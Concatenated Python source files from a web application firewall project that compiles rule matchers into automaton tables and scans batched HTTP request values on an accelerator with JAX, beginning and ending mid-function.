                sel_matchers = [m for m in group.matchers
                                if m.mid in only_mids]
                if not sel_matchers:
                    continue
                local_sel = [group.local_index[m.mid] for m in sel_matchers]
            prv = [
                [req.get(m.mid, []) for m in sel_matchers]
                for req in per_request_values_by_mid
            ]
            bits = self.group_bits(gi, prv, local_sel)
            for li, m in enumerate(sel_matchers):
                out[:, m.mid] = bits[:, li]
        return out
