"""WafModel — the jittable batched inspection forward pass.

This is the framework's "flagship model": for each transform-chain group of
matchers, one jitted program applies the chain's vectorized transforms and
runs the batched automaton scan. The program is a pure function of

    (tables, classes, starts, lane_matcher, symbols) -> final states

with the transform chain baked into the program structure (chains are
static per group), so neuronx-cc compiles one NEFF per (group, L-bucket,
N-bucket) and reuses it across every batch and every hot-reloaded ruleset
with the same shapes.

Replaces the per-request WASM interpreter of the reference's data plane
(reference: SURVEY.md §3.5) with one device dispatch per group per batch.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import partial

import jax
import numpy as np

from ..compiler.compile import CompiledRuleSet, Matcher
from ..config import env as envcfg
from ..ops import automata_jax, bass_compose, transforms_jax
from ..ops.packing import (
    Pack,
    PreparedTables,
    StridedTables,
    compose_chunk,
    compose_state_budget,
    pack_streams,
    prepare_tables,
    resolve_scan_mode,
    resolve_stride,
)

# Static shape buckets: streams pad up to a bucket length, lanes to a
# multiple of LANE_PAD. Few buckets => few neuronx-cc compilations
# (compiles cache to /tmp/neuron-compile-cache, but each is minutes).
LENGTH_BUCKETS = (128, 256, 512, 2048, 8192)
LANE_PAD = 64


def _bucket_for(max_len: int, buckets: "tuple[int, ...] | None" = None) -> int:
    for b in buckets or LENGTH_BUCKETS:
        if max_len <= b:
            return b
    return (buckets or LENGTH_BUCKETS)[-1]


@dataclass
class ChainGroup:
    """Matchers sharing one transform chain -> one jitted program."""

    transforms: tuple[str, ...]
    matchers: list[Matcher]
    tables: PreparedTables
    # matcher.mid -> local index within this group
    local_index: dict[int, int]
    # stride-composed tables (None -> stride-1 scans) + the chosen stride
    strided: StridedTables | None = None
    stride: int = 1
    # effective scan mode for THIS group: the model-wide mode, except
    # compose falls back to gather when S blows the state budget
    scan_mode: str = "gather"


class WafModel:
    """Compiled ruleset -> grouped, jit-ready device programs.

    ``scan_stride`` selects how many symbols each sequential scan step
    consumes (None -> WAF_SCAN_STRIDE env, default auto); groups whose
    composed tables blow the size budget fall back to stride 1
    individually (ops/packing.resolve_stride). ``mode`` selects the scan
    formulation (None -> WAF_SCAN_MODE env, default auto=gather); in
    compose mode, groups whose padded state count S exceeds
    WAF_COMPOSE_STATE_BUDGET fall back to gather individually (their
    S×S transition maps would dwarf the gather tables).
    """

    def __init__(self, compiled: CompiledRuleSet, mode: "str | None" = None,
                 scan_stride: "int | str | None" = None,
                 compile_cache=None, plan=None):
        self.compiled = compiled
        # persistent executable cache (runtime/compile_cache.CompileCache);
        # None = plain jax.jit, the pre-cache behavior
        self.compile_cache = compile_cache
        # kernel plan (autotune.plan.Plan, duck-typed): per-group
        # stride/mode overrides, compose chunk, bucket ladder. None or an
        # empty plan resolves everything through params/env as before.
        self.plan = plan
        self.mode = resolve_scan_mode(mode)
        self.compose_chunk = compose_chunk(
            override=plan.compose_chunk if plan is not None else None)
        self.buckets: tuple[int, ...] = (
            tuple(plan.buckets) if plan is not None and plan.buckets
            else LENGTH_BUCKETS)
        s_budget = compose_state_budget()
        self.groups: list[ChainGroup] = []
        by_chain: dict[tuple[str, ...], list[Matcher]] = {}
        for m in compiled.matchers:
            by_chain.setdefault(m.transforms, []).append(m)
        for transforms, matchers in sorted(by_chain.items()):
            gp = (plan.group("|".join(transforms) or "none")
                  if plan is not None else None)
            pt = prepare_tables(matchers)
            stride, strided = resolve_stride(
                pt, scan_stride,
                override=gp.stride if gp is not None else None)
            if gp is not None and gp.mode is not None:
                scan_mode = resolve_scan_mode(override=gp.mode)
            else:
                scan_mode = self.mode
            if scan_mode == "bass_compose" and bass_compose.bass_fallback_reason(
                    pt, p_max=strided.p_max if strided is not None else None,
                    chunk=self.compose_chunk) is not None:
                scan_mode = "compose"
            if scan_mode == "compose" and pt.s_max > s_budget:
                scan_mode = "gather"
            self.groups.append(ChainGroup(
                transforms=transforms,
                matchers=matchers,
                tables=pt,
                local_index={m.mid: i for i, m in enumerate(matchers)},
                strided=strided,
                stride=stride,
                scan_mode=scan_mode,
            ))
        self._jitted: dict[tuple, "jax.stages.Wrapped"] = {}

    def bucket_for(self, max_len: int) -> int:
        """Shape bucket for a packed stream length, under this model's
        (possibly plan-overridden) bucket ladder."""
        return _bucket_for(max_len, self.buckets)

    # ------------------------------------------------------------------
    def _forward(self, transforms: tuple[str, ...], mode: str, tables,
                 classes, starts, lane_matcher, symbols):
        """The pure jittable forward for one group."""
        sym = transforms_jax.apply_chain(symbols, transforms)
        if mode == "matmul":
            return automata_jax.onehot_matmul_scan(
                tables, classes, starts, lane_matcher, sym)
        if mode == "compose":
            return automata_jax.compose_scan(
                tables, classes, starts, lane_matcher, sym,
                chunk=self.compose_chunk)
        if mode == "bass_compose":
            return bass_compose.bass_compose_scan(
                tables, classes, starts, lane_matcher, sym,
                chunk=self.compose_chunk)
        return automata_jax.gather_scan(
            tables, classes, starts, lane_matcher, sym)

    def _forward_strided(self, transforms: tuple[str, ...], mode: str,
                         stride: int, tables, levels, classes, starts,
                         lane_matcher, symbols):
        """Stride-k forward: identical contract, composed tables."""
        sym = transforms_jax.apply_chain(symbols, transforms)
        if mode == "matmul":
            return automata_jax.onehot_matmul_scan_strided(
                tables, levels, classes, starts, lane_matcher, sym, stride)
        if mode == "compose":
            return automata_jax.compose_scan_strided(
                tables, levels, classes, starts, lane_matcher, sym,
                stride, chunk=self.compose_chunk)
        if mode == "bass_compose":
            return bass_compose.bass_compose_scan_strided(
                tables, levels, classes, starts, lane_matcher, sym,
                stride, chunk=self.compose_chunk)
        return automata_jax.gather_scan_strided(
            tables, levels, classes, starts, lane_matcher, sym, stride)

    def _get_jitted(self, gi: int):
        group = self.groups[gi]
        key = (gi, group.scan_mode, group.stride)
        fn = self._jitted.get(key)
        if fn is None:
            from ..runtime.compile_cache import cached_jit

            transforms = group.transforms
            # statics are closed over with partial, so the cache tag must
            # carry them (plus the trace-time compose chunk) to keep
            # signatures distinct across groups sharing dyn-arg shapes
            tag = (f"wafmodel:{'|'.join(transforms) or 'none'}"
                   f":{group.scan_mode}:s{group.stride}"
                   f":c{self.compose_chunk}")
            if group.stride > 1:
                fn = cached_jit(partial(self._forward_strided, transforms,
                                        group.scan_mode, group.stride),
                                self.compile_cache, tag=tag)
            else:
                fn = cached_jit(partial(self._forward, transforms,
                                        group.scan_mode),
                                self.compile_cache, tag=tag)
            self._jitted[key] = fn
        return fn

    # ------------------------------------------------------------------
    # Issue/collect split: group_bits_issue enqueues the jitted scan and
    # returns immediately with the live device array (JAX dispatch is
    # async); group_bits_collect is the single host<->device sync point.
    # match_bits issues ALL groups before collecting ANY, so the device
    # runs every group's kernels back to back instead of idling on a
    # host round trip between groups.

    def group_bits_issue(self, gi: int,
                         per_request_values: list[list[list[bytes]]],
                         local_sel: list[int] | None = None
                         ) -> "PendingGroupBits":
        """Pack + enqueue the group's scan WITHOUT syncing; returns a
        PendingGroupBits for group_bits_collect. per_request_values[r][i]
        are the values for request r, selected matcher i, where
        sel = local_sel or all the group's local matcher indices."""
        group = self.groups[gi]
        sel = (local_sel if local_sel is not None
               else list(range(len(group.matchers))))
        n_req = len(per_request_values)
        if n_req == 0 or not sel:
            return PendingGroupBits(bits_dev=None, truncated=None,
                                    n=0, n_req=n_req, n_sel=len(sel))
        max_needed = 2
        for req in per_request_values:
            for values in req:
                need = sum(len(v) + 2 for v in values)
                max_needed = max(max_needed, need)
        L = self.bucket_for(max_needed)
        pack = pack_streams(per_request_values, L)
        sel_arr = np.asarray(sel, dtype=np.int32)
        lane_matcher_real = sel_arr[pack.lane_matcher]
        # pad lanes to a bucket multiple for compile reuse
        n = pack.n_lanes
        n_pad = -n % LANE_PAD
        symbols = np.pad(pack.symbols, ((0, n_pad), (0, 0)),
                         constant_values=258)
        lane_matcher = np.pad(lane_matcher_real, (0, n_pad))
        pt = group.tables
        fn = self._get_jitted(gi)
        if group.stride > 1:
            st = group.strided
            final_dev = fn(st.tables, st.levels, pt.classes, pt.starts,
                           lane_matcher, symbols)
        else:
            final_dev = fn(pt.tables, pt.classes, pt.starts,
                           lane_matcher, symbols)
        # accept-state comparison stays on device: padded rows compare
        # against lane 0's accept and are sliced off at collect
        bits_dev = automata_jax.match_bits(final_dev, pt.accepts,
                                           lane_matcher)
        return PendingGroupBits(bits_dev=bits_dev, truncated=pack.truncated,
                                n=n, n_req=n_req, n_sel=len(sel))

    def group_bits_collect(self, pending: "PendingGroupBits") -> np.ndarray:
        """The sync point: fetch the device bits of one issued group."""
        if pending.bits_dev is None:
            return np.zeros((pending.n_req, pending.n_sel), dtype=bool)
        bits = np.asarray(pending.bits_dev)[:pending.n]
        # truncated streams might have missed a match: treat as matched
        # (conservative = stays a candidate; host decides exactly)
        bits = bits | pending.truncated
        return bits.reshape(pending.n_req, pending.n_sel)

    def group_bits(self, gi: int, per_request_values: list[list[list[bytes]]],
                   local_sel: list[int] | None = None) -> np.ndarray:
        """Synchronous convenience: issue + collect one group."""
        return self.group_bits_collect(
            self.group_bits_issue(gi, per_request_values, local_sel))

    def match_bits(self, per_request_values_by_mid:
                   list[dict[int, list[bytes]]],
                   only_mids: set[int] | None = None) -> np.ndarray:
        """values per request keyed by matcher.mid -> bool [R, n_matchers]
        in global mid order. With `only_mids`, lanes are dispatched for just
        those matchers (groups with no selected matcher are skipped); other
        columns stay False.

        All G group kernels are issued before the first collect (one sync
        per group, but the device queue never drains between groups);
        WAF_SYNC_DISPATCH=1 forces the old collect-after-each-issue order
        for differential testing."""
        sync = envcfg.get_bool("WAF_SYNC_DISPATCH")
        n_req = len(per_request_values_by_mid)
        out = np.zeros((n_req, self.compiled.n_matchers), dtype=bool)
        issued: list[tuple[list[Matcher], PendingGroupBits]] = []
        for gi, group in enumerate(self.groups):
            if only_mids is None:
                sel_matchers = group.matchers
                local_sel = None
            else:
                sel_matchers = [m for m in group.matchers
                                if m.mid in only_mids]
                if not sel_matchers:
                    continue
                local_sel = [group.local_index[m.mid] for m in sel_matchers]
            prv = [
                [req.get(m.mid, []) for m in sel_matchers]
                for req in per_request_values_by_mid
            ]
            pending = self.group_bits_issue(gi, prv, local_sel)
            if sync:
                bits = self.group_bits_collect(pending)
                for li, m in enumerate(sel_matchers):
                    out[:, m.mid] = bits[:, li]
            else:
                issued.append((sel_matchers, pending))
        for sel_matchers, pending in issued:
            bits = self.group_bits_collect(pending)
            for li, m in enumerate(sel_matchers):
                out[:, m.mid] = bits[:, li]
        return out


@dataclass
class PendingGroupBits:
    """An issued-but-uncollected group scan (device work in flight)."""

    bits_dev: "jax.Array | None"  # [n + pad] device bool, None = no lanes
    truncated: "np.ndarray | None"  # [n] host bool
    n: int  # real (unpadded) lane count
    n_req: int
    n_sel: int
