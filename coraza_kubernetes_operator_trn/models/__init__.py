"""Flagship model: the batched WAF inspection forward pass."""

from .waf_model import WafModel  # noqa: F401
