"""Host-side stream packing and device-table preparation.

The reference's data plane inspects one request at a time inside Envoy
(reference: SURVEY.md §3.5); here the packer turns a *batch* of requests ×
matchers into fixed-shape symbol tensors so one device dispatch inspects
everything (BASELINE.json config #4: cross-tenant micro-batching).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..compiler.compile import CompiledRuleSet, Matcher
from ..compiler.nfa import BOS, EOS
from ..config import env as envcfg

PAD = 258
N_SYMBOLS_PADDED = 259

# Auto-stride size budget: composed [M, S, P] tables plus pair-index
# levels, in int32 entries PER transform-chain group. 2^22 entries =
# 16 MiB — comfortably SBUF/HBM-resident next to the base tables.
# Override with WAF_STRIDE_TABLE_BUDGET (config/env.py is the
# authoritative declaration; this mirror avoids import-order surprises).
STRIDE_BUDGET_DEFAULT = int(envcfg.REGISTRY["WAF_STRIDE_TABLE_BUDGET"].default)
# Hard cap on the per-matcher composition workspace (S * w * w entries):
# above this even a forced stride falls back to 1 rather than risk
# host-memory blowup on pathological class counts.
_COMPOSE_HARD_CAP = 1 << 26


@dataclass
class PreparedTables:
    """Matcher tables padded to a common [M, S, C] shape with an identity
    PAD class, ready to ship to device memory."""

    tables: np.ndarray  # int32 [M, S_max, C_max]
    classes: np.ndarray  # int32 [M, 259]
    starts: np.ndarray  # int32 [M]
    accepts: np.ndarray  # int32 [M]  (-1 => never accepts)
    n_states: np.ndarray  # int32 [M]
    # real (unpadded) table entries: sum of S_i * (C_i + 1) over matchers;
    # padded_entries - real_entries is the cost of the common-shape pad
    real_entries: int = 0

    @property
    def m(self) -> int:
        return int(self.tables.shape[0])

    @property
    def s_max(self) -> int:
        return int(self.tables.shape[1])

    @property
    def c_max(self) -> int:
        return int(self.tables.shape[2])

    @property
    def padded_entries(self) -> int:
        return int(self.tables.size)

    @property
    def padding_waste(self) -> int:
        """Entries spent padding every matcher to [s_max, c_max] — what
        Hopcroft minimization shrinks (exported via EngineStats/Metrics
        so its effect is visible per group)."""
        return self.padded_entries - self.real_entries


def prepare_tables(matchers: list[Matcher]) -> PreparedTables:
    """Pad matcher tables to a common shape and add the PAD identity class.

    Padding transitions self-loop into state 0 of each automaton's dead
    space is avoided by making padded table rows/cols map to row 0 — those
    entries are never reached because classes[] never emits them and states
    never exceed the real table.
    """
    if not matchers:
        raise ValueError("no matchers to prepare")
    s_max = max(m.dfa.n_states for m in matchers)
    c_max = max(m.dfa.n_classes for m in matchers) + 1  # +1 PAD class slot
    M = len(matchers)
    tables = np.zeros((M, s_max, c_max), dtype=np.int32)
    classes = np.zeros((M, N_SYMBOLS_PADDED), dtype=np.int32)
    starts = np.zeros(M, dtype=np.int32)
    accepts = np.zeros(M, dtype=np.int32)
    n_states = np.zeros(M, dtype=np.int32)
    for i, m in enumerate(matchers):
        S, C = m.dfa.n_states, m.dfa.n_classes
        tables[i, :S, :C] = m.dfa.table
        # PAD identity column in slot C (also fills padded class slots so
        # any stray class lands on identity rather than state 0)
        ident = np.arange(s_max, dtype=np.int32)
        for c in range(C, c_max):
            tables[i, :, c] = ident
        classes[i, :258] = np.concatenate(
            [m.dfa.classes[:256], m.dfa.classes[256:258]])
        classes[i, PAD] = C
        starts[i] = m.dfa.start
        accepts[i] = m.dfa.accept
        n_states[i] = S
    real = int(sum(m.dfa.n_states * (m.dfa.n_classes + 1)
                   for m in matchers))
    return PreparedTables(tables=tables, classes=classes, starts=starts,
                          accepts=accepts, n_states=n_states,
                          real_entries=real)


@dataclass
class StridedTables:
    """Stride-composed transition tables: one scan step consumes
    ``stride`` symbols.

    The transition function is squared offline — ``table2[s, (c1, c2)] =
    table[table[s, c1], c2]`` — and the pair alphabet re-compressed into
    pair-classes by merging pair columns that induce identical
    transitions, so P stays near C instead of C². Stride 4 composes the
    stride-2 tables once more (pairs of pair-classes). The device step
    folds per-symbol base classes through ``levels`` (one [w_l, w_l]
    pair->class index per composition level — gathers that do NOT depend
    on the carried state) and pays exactly ONE state-dependent gather per
    ``stride`` symbols: the sequential depth of the scan drops k×.

    The PAD identity class composes to an identity pair-class, so odd
    tails and PAD padding remain scan no-ops — stride-k final states are
    bit-identical to stride-1 on any stream.
    """

    stride: int  # 2 or 4
    tables: np.ndarray  # int32 [M, S_max, P_max] composed next-state
    # per level l: int32 [M, w_l * w_l], (a, b) -> next-level class via
    # a * w_l + b; w_0 = base c_max, w_1 = level-0 P_max
    levels: tuple[np.ndarray, ...]
    n_classes: np.ndarray  # int32 [M] real final-level class counts

    @property
    def p_max(self) -> int:
        return int(self.tables.shape[2])

    @property
    def entries(self) -> int:
        """Total int32 entries (composed tables + index levels) — the
        size the auto-stride budget is charged against."""
        return int(self.tables.size
                   + sum(lv.size for lv in self.levels))


def _compose_once(table: np.ndarray, n_states: int, width: int,
                  ident_cls: int) -> tuple[np.ndarray, np.ndarray, int]:
    """One composition level for one matcher: ``table`` [S_pad, width]
    (closed over rows < n_states) -> (table2 [S_pad, P], pair index
    [width*width], identity pair-class)."""
    S = max(int(n_states), 1)
    t = table[:S]
    # pair[s, a, b] = t[t[s, a], b]
    pair = t[t]
    cols = pair.reshape(S, width * width)
    uniq, inv = np.unique(cols, axis=1, return_inverse=True)
    out = np.zeros((table.shape[0], uniq.shape[1]), dtype=np.int32)
    out[:S] = uniq
    ident2 = int(inv[ident_cls * width + ident_cls])
    return out, inv.astype(np.int32).reshape(-1), ident2


def compose_stride(pt: PreparedTables, stride: int,
                   budget_entries: int | None = None
                   ) -> StridedTables | None:
    """Build stride-composed tables for a prepared group, or None when
    they exceed ``budget_entries`` (or the hard composition cap)."""
    if stride not in (2, 4):
        raise ValueError(f"unsupported stride {stride} (use 1, 2 or 4)")
    M, s_max = pt.m, pt.s_max
    tables = pt.tables
    idents = [int(pt.classes[i, PAD]) for i in range(M)]
    levels: list[np.ndarray] = []
    n_classes = np.zeros(M, dtype=np.int32)
    for _level in range(stride.bit_length() - 1):
        w = tables.shape[2]
        if s_max * w * w > _COMPOSE_HARD_CAP:
            return None
        outs: list[np.ndarray] = []
        idx = np.empty((M, w * w), dtype=np.int32)
        for i in range(M):
            out, inv, ident2 = _compose_once(
                tables[i], int(pt.n_states[i]), w, idents[i])
            outs.append(out)
            idx[i] = inv
            idents[i] = ident2
            n_classes[i] = out.shape[1]
        p_max = max(o.shape[1] for o in outs)
        nt = np.zeros((M, s_max, p_max), dtype=np.int32)
        ident_col = np.arange(s_max, dtype=np.int32)
        for i in range(M):
            P = outs[i].shape[1]
            nt[i, :, :P] = outs[i]
            if P < p_max:
                nt[i, :, P:] = ident_col[:, None]
        levels.append(idx)
        tables = nt
        if budget_entries is not None and (
                tables.size + sum(lv.size for lv in levels)
                ) > budget_entries:
            return None
    return StridedTables(stride=stride, tables=tables,
                         levels=tuple(levels), n_classes=n_classes)


def stride_budget() -> int:
    return envcfg.get_int("WAF_STRIDE_TABLE_BUDGET")


def resolve_stride(pt: PreparedTables, scan_stride=None, *,
                   override=None) -> tuple[int, StridedTables | None]:
    """The WAF_SCAN_STRIDE knob for one table group.

    Resolution order: ``override`` (a per-group plan decision, e.g. from
    the autotuner — wins outright) > ``scan_stride`` (engine-level
    param) > env. "auto" picks stride 2 when the composed tables fit the
    size budget, else 1; an explicit 1/2/4 forces that stride (falling
    back to 1 only if composition overflows the hard cap). Returns
    (chosen stride, strided tables or None).
    """
    if override is not None:
        req = override
    elif scan_stride is not None:
        req = scan_stride
    else:
        req = envcfg.get_str("WAF_SCAN_STRIDE")
    req = str(req).strip().lower() or "auto"
    if req in ("1", "none", "off"):
        return 1, None
    if req == "auto":
        st = compose_stride(pt, 2, budget_entries=stride_budget())
    else:
        try:
            k = int(req)
        except ValueError:
            raise ValueError(
                f"WAF_SCAN_STRIDE={req!r} (expected auto, 1, 2 or 4)")
        st = compose_stride(pt, k, budget_entries=None)
    if st is None:
        return 1, None
    return st.stride, st


SCAN_MODES = ("gather", "matmul", "compose", "bass_compose")


def resolve_scan_mode(mode=None, *, override=None) -> str:
    """The WAF_SCAN_MODE knob (override > param > env).

    "auto" resolves to "gather" — the serialized recurrence is still the
    CPU-throughput baseline; compose/matmul/bass_compose are opt-in
    device modes. ``override`` carries a per-group plan decision
    (autotuner).
    """
    if override is not None:
        req = override
    elif mode is not None:
        req = mode
    else:
        req = envcfg.get_str("WAF_SCAN_MODE")
    req = str(req).strip().lower() or "auto"
    if req == "auto":
        return "gather"
    if req not in SCAN_MODES:
        raise ValueError(
            f"WAF_SCAN_MODE={req!r} (expected auto, gather, matmul, "
            f"compose or bass_compose)")
    return req


def compose_chunk(override=None) -> int:
    """WAF_COMPOSE_CHUNK, unless a plan supplies an explicit chunk."""
    if override is not None:
        return max(1, int(override))
    return max(1, envcfg.get_int("WAF_COMPOSE_CHUNK"))


def compose_state_budget() -> int:
    return envcfg.get_int("WAF_COMPOSE_STATE_BUDGET")


@dataclass
class Pack:
    """A packed batch: symbols + lane metadata."""

    symbols: np.ndarray  # int32 [N_lanes, L]
    lane_matcher: np.ndarray  # int32 [N_lanes]
    lane_request: np.ndarray  # int32 [N_lanes]
    truncated: np.ndarray  # bool [N_lanes] — stream didn't fit L

    @property
    def n_lanes(self) -> int:
        return int(self.symbols.shape[0])


def build_stream(values: list[bytes], max_len: int) -> tuple[np.ndarray, bool]:
    """values -> [L] symbol stream (BOS v EOS per value, PAD tail)."""
    out = np.full(max_len, PAD, dtype=np.int32)
    pos = 0
    truncated = False
    for v in values:
        need = len(v) + 2
        if pos + need > max_len:
            truncated = True
            break
        out[pos] = BOS
        if len(v):
            out[pos + 1:pos + 1 + len(v)] = np.frombuffer(v, dtype=np.uint8)
        out[pos + 1 + len(v)] = EOS
        pos += need
    return out, truncated


def build_chunk_symbols(data: bytes, first: bool,
                        max_len: int) -> np.ndarray:
    """One streamed body chunk -> [L] symbol row for a carried-state scan
    (BOS only on the first chunk, PAD tail). Unlike :func:`build_stream`
    there is no EOS and no truncation: the chunk is a PREFIX of a live
    value whose remaining bytes arrive in later chunks, and the PAD tail
    is a scan no-op (identity class column), so chaining chunk scans
    through the ``*_with_state`` kernels reproduces the one-shot scan of
    the concatenated bytes exactly — at any split offset, for strided
    tables too (odd tails pair data with PAD, i.e. compose with the
    identity)."""
    n = len(data) + (1 if first else 0)
    if max_len < n:
        raise ValueError(f"chunk needs {n} symbols, bucket is {max_len}")
    out = np.full(max_len, PAD, dtype=np.int32)
    pos = 0
    if first:
        out[0] = BOS
        pos = 1
    if data:
        out[pos:pos + len(data)] = np.frombuffer(data, dtype=np.uint8)
    return out


def pad_to_stride(symbols: np.ndarray, stride: int) -> np.ndarray:
    """Pad the symbol axis to a multiple of ``stride`` with PAD so strided
    scans consume whole k-symbol blocks. PAD's class column is the
    identity in every prepared (and composed) table, so the tail is a
    scan no-op and final states match the unpadded stride-1 scan."""
    rem = symbols.shape[-1] % stride
    if not rem:
        return symbols
    width = [(0, 0)] * (symbols.ndim - 1) + [(0, stride - rem)]
    return np.pad(symbols, width, constant_values=PAD)


def pack_streams(
    per_request_values: list[list[list[bytes]]],
    max_len: int,
) -> Pack:
    """per_request_values[r][m] = list of target byte values for request r,
    matcher m. Returns the flattened lane pack."""
    n_req = len(per_request_values)
    n_m = len(per_request_values[0]) if n_req else 0
    n_lanes = n_req * n_m
    symbols = np.full((n_lanes, max_len), PAD, dtype=np.int32)
    lane_matcher = np.zeros(n_lanes, dtype=np.int32)
    lane_request = np.zeros(n_lanes, dtype=np.int32)
    truncated = np.zeros(n_lanes, dtype=bool)
    lane = 0
    for r, matcher_values in enumerate(per_request_values):
        for m, values in enumerate(matcher_values):
            stream, trunc = build_stream(values, max_len)
            symbols[lane] = stream
            lane_matcher[lane] = m
            lane_request[lane] = r
            truncated[lane] = trunc
            lane += 1
    return Pack(symbols=symbols, lane_matcher=lane_matcher,
                lane_request=lane_request, truncated=truncated)


def extract_matcher_values(tx, matcher: Matcher) -> list[bytes]:
    """Expand a matcher's target spec against a Transaction (the host is
    the single source of truth for variable expansion — identical to the
    CPU engine's own expansion, so device and host never diverge)."""
    pairs = tx.expand_targets(list(matcher.variables))
    return [v.encode("latin-1") for _, v in pairs]
