"""Host-side stream packing and device-table preparation.

The reference's data plane inspects one request at a time inside Envoy
(reference: SURVEY.md §3.5); here the packer turns a *batch* of requests ×
matchers into fixed-shape symbol tensors so one device dispatch inspects
everything (BASELINE.json config #4: cross-tenant micro-batching).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..compiler.compile import CompiledRuleSet, Matcher
from ..compiler.nfa import BOS, EOS

PAD = 258
N_SYMBOLS_PADDED = 259


@dataclass
class PreparedTables:
    """Matcher tables padded to a common [M, S, C] shape with an identity
    PAD class, ready to ship to device memory."""

    tables: np.ndarray  # int32 [M, S_max, C_max]
    classes: np.ndarray  # int32 [M, 259]
    starts: np.ndarray  # int32 [M]
    accepts: np.ndarray  # int32 [M]  (-1 => never accepts)
    n_states: np.ndarray  # int32 [M]

    @property
    def m(self) -> int:
        return int(self.tables.shape[0])

    @property
    def s_max(self) -> int:
        return int(self.tables.shape[1])

    @property
    def c_max(self) -> int:
        return int(self.tables.shape[2])


def prepare_tables(matchers: list[Matcher]) -> PreparedTables:
    """Pad matcher tables to a common shape and add the PAD identity class.

    Padding transitions self-loop into state 0 of each automaton's dead
    space is avoided by making padded table rows/cols map to row 0 — those
    entries are never reached because classes[] never emits them and states
    never exceed the real table.
    """
    if not matchers:
        raise ValueError("no matchers to prepare")
    s_max = max(m.dfa.n_states for m in matchers)
    c_max = max(m.dfa.n_classes for m in matchers) + 1  # +1 PAD class slot
    M = len(matchers)
    tables = np.zeros((M, s_max, c_max), dtype=np.int32)
    classes = np.zeros((M, N_SYMBOLS_PADDED), dtype=np.int32)
    starts = np.zeros(M, dtype=np.int32)
    accepts = np.zeros(M, dtype=np.int32)
    n_states = np.zeros(M, dtype=np.int32)
    for i, m in enumerate(matchers):
        S, C = m.dfa.n_states, m.dfa.n_classes
        tables[i, :S, :C] = m.dfa.table
        # PAD identity column in slot C (also fills padded class slots so
        # any stray class lands on identity rather than state 0)
        ident = np.arange(s_max, dtype=np.int32)
        for c in range(C, c_max):
            tables[i, :, c] = ident
        classes[i, :258] = np.concatenate(
            [m.dfa.classes[:256], m.dfa.classes[256:258]])
        classes[i, PAD] = C
        starts[i] = m.dfa.start
        accepts[i] = m.dfa.accept
        n_states[i] = S
    return PreparedTables(tables=tables, classes=classes, starts=starts,
                          accepts=accepts, n_states=n_states)


@dataclass
class Pack:
    """A packed batch: symbols + lane metadata."""

    symbols: np.ndarray  # int32 [N_lanes, L]
    lane_matcher: np.ndarray  # int32 [N_lanes]
    lane_request: np.ndarray  # int32 [N_lanes]
    truncated: np.ndarray  # bool [N_lanes] — stream didn't fit L

    @property
    def n_lanes(self) -> int:
        return int(self.symbols.shape[0])


def build_stream(values: list[bytes], max_len: int) -> tuple[np.ndarray, bool]:
    """values -> [L] symbol stream (BOS v EOS per value, PAD tail)."""
    out = np.full(max_len, PAD, dtype=np.int32)
    pos = 0
    truncated = False
    for v in values:
        need = len(v) + 2
        if pos + need > max_len:
            truncated = True
            break
        out[pos] = BOS
        if len(v):
            out[pos + 1:pos + 1 + len(v)] = np.frombuffer(v, dtype=np.uint8)
        out[pos + 1 + len(v)] = EOS
        pos += need
    return out, truncated


def pack_streams(
    per_request_values: list[list[list[bytes]]],
    max_len: int,
) -> Pack:
    """per_request_values[r][m] = list of target byte values for request r,
    matcher m. Returns the flattened lane pack."""
    n_req = len(per_request_values)
    n_m = len(per_request_values[0]) if n_req else 0
    n_lanes = n_req * n_m
    symbols = np.full((n_lanes, max_len), PAD, dtype=np.int32)
    lane_matcher = np.zeros(n_lanes, dtype=np.int32)
    lane_request = np.zeros(n_lanes, dtype=np.int32)
    truncated = np.zeros(n_lanes, dtype=bool)
    lane = 0
    for r, matcher_values in enumerate(per_request_values):
        for m, values in enumerate(matcher_values):
            stream, trunc = build_stream(values, max_len)
            symbols[lane] = stream
            lane_matcher[lane] = m
            lane_request[lane] = r
            truncated[lane] = trunc
            lane += 1
    return Pack(symbols=symbols, lane_matcher=lane_matcher,
                lane_request=lane_request, truncated=truncated)


def extract_matcher_values(tx, matcher: Matcher) -> list[bytes]:
    """Expand a matcher's target spec against a Transaction (the host is
    the single source of truth for variable expansion — identical to the
    CPU engine's own expansion, so device and host never diverge)."""
    pairs = tx.expand_targets(list(matcher.variables))
    return [v.encode("latin-1") for _, v in pairs]
