"""Vectorized SecLang transformations on symbol streams.

Each transform maps int32 [N, L] symbol arrays -> [N, L], operating only on
byte symbols (<256); BOS/EOS/PAD pass through untouched, so per-value
semantics survive. Shrinking transforms (urlDecode, removeNulls, ...) use
stream compaction: keep-mask -> cumsum positions -> scatter, with PAD
filling the tail. This is VectorE/ScalarE-shaped work: elementwise selects,
shifted comparisons, one prefix-sum, one scatter — no data-dependent
control flow, fully jit-compatible.

Every function here is differentially tested against engine/transforms.py
(the exact CPU semantics) in tests/test_ops_jax.py.

Escape-decode parallelism note: %XX / %uXXXX escape spans contain only hex
digits and 'u' after the '%', never another '%', so escape starts cannot
overlap — start detection is a purely local predicate. The same argument
holds for HTML entities (bodies never contain '&'). This is what makes
single-pass parallel decoding exact, not approximate.
"""

from __future__ import annotations

import jax
import jax.numpy as jnp

from .packing import PAD
from ..compiler.nfa import BOS, EOS

_WS_BYTES = (0x20, 0x09, 0x0A, 0x0D, 0x0C, 0x0B)


def _is_byte(sym):
    return sym < 256


def _is_ws6(sym):
    """The 6 C-locale whitespace bytes (cmdLine/trim semantics)."""
    m = jnp.zeros_like(sym, dtype=bool)
    for w in _WS_BYTES:
        m = m | (sym == w)
    return m


def _is_ws(sym):
    """Whitespace incl. non-breaking space (remove/compressWhitespace)."""
    return _is_ws6(sym) | (sym == 0xA0)


def _shift_left(x, k, fill):
    """x[i] <- x[i+k] (peek forward); fill at the end."""
    if k == 0:
        return x
    return jnp.concatenate(
        [x[:, k:], jnp.full((x.shape[0], k), fill, x.dtype)], axis=1)


def _shift_right(x, k, fill):
    if k == 0:
        return x
    return jnp.concatenate(
        [jnp.full((x.shape[0], k), fill, x.dtype), x[:, :-k]], axis=1)


def compact(sym, keep):
    """Drop positions where keep is False; left-pack; PAD tail.

    keep must be True for all marker symbols (callers only drop bytes).
    """
    n, ln = sym.shape
    pos = jnp.cumsum(keep.astype(jnp.int32), axis=1) - 1
    pos = jnp.where(keep, pos, ln)  # dropped -> scatter into overflow slot
    out = jnp.full((n, ln + 1), PAD, dtype=sym.dtype)
    out = jax.vmap(lambda o, p, s: o.at[p].set(s))(out, pos, sym)
